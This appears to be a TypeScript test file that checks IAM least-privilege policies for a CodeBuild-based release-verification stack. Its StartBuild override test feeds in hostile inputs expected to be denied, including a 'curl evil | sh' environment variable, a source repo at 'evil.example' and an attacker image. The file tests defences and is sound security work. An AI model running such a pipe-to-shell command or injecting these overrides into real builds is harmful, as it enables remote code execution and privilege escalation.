/**
 * The deny matrix of issue 8, evaluated by @cloud-copilot/iam-simulate against the synthesized
 * template (identity policies, permissions boundaries, bucket, key and topic policies). Each
 * "cannot" is paired with the nearest "can", so a matrix that denies everything fails too.
 */
import { describe, expect, it } from 'vitest';
import { loadConfig, parseConfig } from '../../lambda/core/config/load';
import { BUILD_ENV } from '../../lambda/adapters/builder/codebuild-env';
import { DIFF_ENV } from '../../lambda/adapters/builder/codebuild-diff-env';
import { ACCOUNT, REGION } from './cfn-resolve';
import { StackUnderTest, synthTemplate } from './conformance';
import { conformanceConfig } from './fixture';
import { startBuildContext } from './iam-requests';

const stack = new StackUnderTest(synthTemplate(conformanceConfig));
const n = stack.names;
const results = (key: string) => `arn:aws:s3:::${n.resultsBucket}/${key}`;
const artifacts = (key: string) => `arn:aws:s3:::${n.artifactsBucket}/${key}`;
const project = (name: string) => `arn:aws:codebuild:${REGION}:${ACCOUNT}:project/${name}`;
const alertsKey = stack.policies.topicKeys.get(n.topicArn)!;
const decide = async (caller: string, action: string, resource: string, context?: Record<string, string | string[]>) =>
  (await stack.decide(caller, { action, resource, context })).result;
const runVars = (extra: { name: string; value: string }[] = []) => ({
  projectName: n.projects.alpha,
  environmentVariablesOverride: [
    { name: BUILD_ENV.runId, value: '20260302T030000Z-abcdef' },
    { name: BUILD_ENV.target, value: 'alpha' },
    { name: BUILD_ENV.commit, value: 'a'.repeat(40) },
    ...extra,
  ],
});

describe('deny matrix: a target build role', () => {
  const build = 'build:alpha';
  it('writes its own artifact prefix (and nothing else below)', async () => {
    expect(await decide(build, 's3:PutObject', artifacts('builds/alpha/uuid/out/app'))).toBe('Allowed');
    expect(await decide(build, 's3:PutObject', artifacts('builds/gamma/uuid/out/app'))).not.toBe('Allowed');
    expect(await decide(build, 's3:PutObject', artifacts('diffs/r/alpha/a/published'))).not.toBe('Allowed');
    expect(await decide(build, 's3:PutObject', artifacts('sources/r/source.tar'))).not.toBe('Allowed');
    expect(await decide(build, 's3:PutObject', results('runs/r/targets/alpha.json'))).not.toBe('Allowed');
  });
  it('cannot read results or the ledger, the token secret, publish, sign, or start builds', async () => {
    expect(await decide(build, 's3:GetObject', results('runs/r/summary.json'))).not.toBe('Allowed');
    expect(await decide(build, 's3:GetObject', results('ledger/ledger.json'))).not.toBe('Allowed');
    expect(await decide(build, 's3:GetObject', artifacts('builds/gamma/uuid/out/app'))).not.toBe('Allowed');
    expect(await decide(build, 'secretsmanager:GetSecretValue', n.tokenSecretArn)).not.toBe('Allowed');
    expect(await decide(build, 'sns:Publish', n.topicArn)).not.toBe('Allowed');
    expect(await decide(build, 'kms:Sign', n.attestationKeyArn, { 'kms:SigningAlgorithm': 'ECDSA_SHA_256', 'kms:MessageType': 'RAW' })).not.toBe('Allowed');
    for (const p of [...Object.values(n.projects), n.diffProject]) expect(await decide(build, 'codebuild:StartBuild', project(p))).not.toBe('Allowed');
  });
});

describe('what every role needs to run at all', () => {
  it("each build writes its own CodeBuild log stream and uploads with the artifacts key (identity policy and boundary), not another project's", async () => {
    const stream = (p: string) => `arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/aws/codebuild/${p}:log-stream:0b8e9c3e-2f57-4c5e-9a3e-6d1f2b3c4d5e`;
    for (const [t, p] of Object.entries(n.projects)) {
      for (const action of ['logs:CreateLogStream', 'logs:PutLogEvents'])
        expect(await decide(`build:${t}`, action, stream(p)), `${t} ${action}`).toBe('Allowed');
      expect(await decide(`build:${t}`, 'kms:GenerateDataKey', stack.policies.bucketKeys.get(n.artifactsBucket)!)).toBe('Allowed');
    }
    expect(await decide('build:alpha', 'logs:PutLogEvents', stream(n.projects.gamma!))).not.toBe('Allowed');
    expect(await decide('diff', 'logs:PutLogEvents', stream(n.diffProject))).toBe('Allowed');
  });
});

describe('deny matrix: StartBuild overrides', () => {
  it('the launcher starts a target build with the run variables, and with no override', async () => {
    expect(await decide('launcher', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext(runVars()))).toBe('Allowed');
    const overrides: Record<string, unknown>[] = [
      { imageOverride: 'attacker/image@sha256:' + '0'.repeat(64) },
      { privilegedModeOverride: true },
      { sourceLocationOverride: 'https://evil.example/repo.git', sourceTypeOverride: 'GITHUB' },
      { buildspecOverride: 'version: 0.2' },
      { environmentTypeOverride: 'LINUX_CONTAINER' },
      { computeTypeOverride: 'BUILD_GENERAL1_2XLARGE' },
      { artifactsOverride: { type: 'S3', location: 'other-bucket' } },
      { serviceRoleOverride: 'arn:aws:iam::123456789012:role/admin' },
      { cacheOverride: { type: 'S3', location: 'other-bucket/cache' } },
      // a variable outside the allow-list: the command is the project's, not the launcher's
      { environmentVariablesOverride: [...runVars().environmentVariablesOverride, { name: BUILD_ENV.command, value: 'curl evil | sh' }] },
    ];
    for (const o of overrides) {
      expect(await decide('launcher', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext({ ...runVars(), ...o })), JSON.stringify(o)).toBe(
        'ExplicitlyDenied',
      );
    }
  });
  it('the checker starts the diff job with its prefix only, never a target build', async () => {
    const diff = { projectName: n.diffProject, environmentVariablesOverride: [{ name: DIFF_ENV.prefix, value: 'diffs/r/alpha/a' }] };
    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext(diff))).toBe('Allowed');
    expect(
      await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, imageOverride: 'x@sha256:' + '0'.repeat(64) })),
    ).toBe('ExplicitlyDenied');
    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, buildspecOverride: 'x' }))).toBe(
      'ExplicitlyDenied',
    );
    expect(
      await decide(
        'checker',
        'codebuild:StartBuild',
        project(n.diffProject),
        startBuildContext({ environmentVariablesOverride: [...diff.environmentVariablesOverride, { name: DIFF_ENV.bucket, value: 'other' }] }),
      ),
    ).toBe('ExplicitlyDenied');
    expect(await decide('checker', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext(runVars()))).not.toBe('Allowed');
  });
});

describe('deny matrix: the diff job reads only its inputs', () => {
  it('reads published/rebuilt and writes reports under diffs/, nothing else', async () => {
    expect(await decide('diff', 's3:GetObject', artifacts('diffs/r/alpha/a/published'))).toBe('Allowed');
    expect(await decide('diff', 's3:GetObject', artifacts('diffs/r/alpha/a/rebuilt'))).toBe('Allowed');
    expect(await decide('diff', 's3:PutObject', artifacts('diffs/r/alpha/a/report.html'))).toBe('Allowed');
    expect(await decide('diff', 's3:PutObject', artifacts('diffs/r/alpha/a/published'))).not.toBe('Allowed');
    expect(await decide('diff', 's3:GetObject', artifacts('builds/alpha/uuid/out/app'))).not.toBe('Allowed');
    expect(await decide('diff', 's3:GetObject', artifacts('sources/r/source.tar'))).not.toBe('Allowed');
    expect(await decide('diff', 's3:GetObject', results('runs/r/summary.json'))).not.toBe('Allowed');
    expect(await decide('diff', 'secretsmanager:GetSecretValue', n.tokenSecretArn)).not.toBe('Allowed');
    expect(await decide('diff', 'sns:Publish', n.topicArn)).not.toBe('Allowed');
  });
});

describe('deny matrix: attestations', () => {
  it('only the checker can sign with the attestation key', async () => {
    const ctx = { 'kms:SigningAlgorithm': 'ECDSA_SHA_256', 'kms:MessageType': 'RAW' };
    expect(await decide('checker', 'kms:Sign', n.attestationKeyArn, ctx)).toBe('Allowed');
    for (const other of ['launcher', 'deadman', 'diff', 'build:alpha', 'build:gamma'])
      expect(await decide(other, 'kms:Sign', n.attestationKeyArn, ctx), other).not.toBe('Allowed');
  });
});

describe('CloudWatch alarms publish to the encrypted topic', () => {
  const alarms = stack.policies.resolver.idsOf('AWS::CloudWatch::Alarm').map((id) => {
    const p = stack.template.Resources[id]!.Properties!;
    const actions = stack.policies.resolver.resolve([...((p.AlarmActions as unknown[]) ?? []), ...((p.OKActions as unknown[]) ?? [])]) as string[];
    return { id, arn: stack.policies.resolver.getAtt(id, 'Arn'), actions };
  });
  it('every alarm targets the topic, and its service request is allowed by the topic and key policies', async () => {
    expect(alarms.length).toBeGreaterThanOrEqual(4); // three Lambdas' errors, dead letters, dead man's switch
    let checked = 0;
    for (const alarm of alarms) {
      expect(alarm.actions, alarm.id).toContain(n.topicArn);
      const cw = { kind: 'service' as const, service: 'cloudwatch.amazonaws.com', sourceArn: alarm.arn };
      expect((await stack.decide(cw, { action: 'sns:Publish', resource: n.topicArn })).result, alarm.id).toBe('Allowed');
      const via = { 'kms:ViaService': `sns.${REGION}.amazonaws.com` };
      expect((await stack.decide(cw, { action: 'kms:GenerateDataKey', resource: alertsKey, context: via })).result, alarm.id).toBe('Allowed');
      expect((await stack.decide(cw, { action: 'kms:Decrypt', resource: alertsKey, context: via })).result, alarm.id).toBe('Allowed');
      checked += 3;
    }
    console.log(`IAM conformance: ${checked} alarm service requests checked against the topic and key policies`);
  });
  it('an alarm of another account cannot publish (confused deputy), and EventBridge gets nothing', async () => {
    const foreign = { kind: 'service' as const, service: 'cloudwatch.amazonaws.com', sourceArn: `arn:aws:cloudwatch:${REGION}:999999999999:alarm:x` };
    const out = await stack.decide(foreign, { action: 'sns:Publish', resource: n.topicArn, context: { 'aws:SourceAccount': '999999999999' } });
    expect(out.allowed).toBe(false);
    const events = { kind: 'service' as const, service: 'events.amazonaws.com', sourceArn: `arn:aws:events:${REGION}:${ACCOUNT}:rule/x` };
    expect((await stack.decide(events, { action: 'kms:GenerateDataKey', resource: alertsKey })).allowed).toBe(false);
  });
});

describe('private ECR image: the build role may pull it (identity policy and permissions boundary)', () => {
  const image = `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/builders/rust@sha256:${'7'.repeat(64)}`;
  const ecrStack = new StackUnderTest(
    synthTemplate(parseConfig({ ...structuredClone(conformanceConfig), targets: [{ ...structuredClone(conformanceConfig.targets[0]!), image }] } as never)),
  );
  it('GetAuthorizationToken and the pull of that repository only', async () => {
    const repo = `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/builders/rust`;
    expect((await ecrStack.decide('build:alpha', { action: 'ecr:GetAuthorizationToken', resource: '*' })).result).toBe('Allowed');
    for (const action of ['ecr:BatchGetImage', 'ecr:GetDownloadUrlForLayer', 'ecr:BatchCheckLayerAvailability'])
      expect((await ecrStack.decide('build:alpha', { action, resource: repo })).result, action).toBe('Allowed');
    expect((await ecrStack.decide('build:alpha', { action: 'ecr:BatchGetImage', resource: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/other` })).allowed).toBe(
      false,
    );
    expect((await ecrStack.decide('build:alpha', { action: 'ecr:PutImage', resource: repo })).allowed).toBe(false);
  });
});

describe('the shipped example (a named token secret, Windows cross-build, macOS fleet target)', () => {
  const example = new StackUnderTest(synthTemplate(loadConfig('examples/release-verifier.example.yaml')));
  const secret = `arn:aws:secretsmanager:${REGION}:${ACCOUNT}:secret:release-verifier/gitlab-token-AbCdEf`;
  it('the launcher and the checker read the named token secret; no build, the diff job or the dead-man can', async () => {
    for (const caller of ['launcher', 'checker'])
      expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).result, caller).toBe('Allowed');
    for (const caller of ['deadman', 'diff', ...Object.keys(example.names.projects).map((t) => `build:${t}`)])
      expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).allowed, caller).toBe(false);
  });
  it("the macOS target's build role is as confined as the others", async () => {
    const mac = 'build:macos-arm64';
    const bucket = example.names.artifactsBucket;
    expect((await example.decide(mac, { action: 's3:PutObject', resource: `arn:aws:s3:::${bucket}/builds/macos-arm64/u/out/app.dmg` })).result).toBe('Allowed');
    expect((await example.decide(mac, { action: 's3:PutObject', resource: `arn:aws:s3:::${bucket}/builds/linux-x64/u/out/app` })).allowed).toBe(false);
    expect((await example.decide(mac, { action: 'sns:Publish', resource: example.names.topicArn })).allowed).toBe(false);
  });
});
